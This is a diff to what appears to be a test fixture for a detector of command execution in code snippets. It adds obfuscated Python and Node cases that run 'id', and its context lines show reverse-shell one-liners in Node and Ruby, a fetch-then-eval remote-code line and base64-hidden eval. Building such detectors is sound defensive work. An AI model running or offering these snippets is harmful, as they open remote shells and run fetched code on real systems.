@@ -22,6 +22,9 @@ STARTS = {
     "python-getattr": ("python", "import os; getattr(os, 'sys'+'tem')('id')", [("shell", ["id"])]),
     "python-function-in-a-variable": ("python", "import os; f = os.system; f('id')", [("shell", ["id"])]),
     "python-command-in-a-variable": ("python", "import os; c = 'i' + 'd'; os.system(c)", [("shell", ["id"])]),
+    "python-module-as-an-argument": (
+        "python", "(lambda o: o.system('id'))(__import__('os'))", [("shell", ["id"])]
+    ),
     "python-list": ("python", "import subprocess; subprocess.run(['go', 'test', '-exec', 'sh'])", [("argv", ["go",
     "test", "-exec", "sh"])]),
     "python-shell-true": ("python", "import subprocess as s; s.Popen('ls | sh', shell=True)", [("shell", ["ls | sh"])]),
@@ -134,6 +137,8 @@ DOES = {
     "const n=require('net'),s=require('child_process').spawn('/bin/sh');n.connect(1,'h',()=>0)", ("escape",
     "remote-shell")),
     "node-remote-code": ("node", "fetch('http://h').then(r => r.text()).then(eval)", ("shell", "remote-code")),
+    "node-member-by-text": ("node", "require('child_process')['exec']('id')", ("run", "computed")),
+    "node-import-then": ("node", "import('child_process').then(c => c.exec('id'))", ("run", "computed")),
     "node-hidden-text": ("node", "eval(atob('aWQ='))", ("code", "hidden-text")),
     "ruby-reverse-shell": ("ruby", "c=TCPSocket.new('h',1);while(m=c.gets);IO.popen(m,'r'){|i|c.print i.read}end",
     ("escape", "remote-shell")),
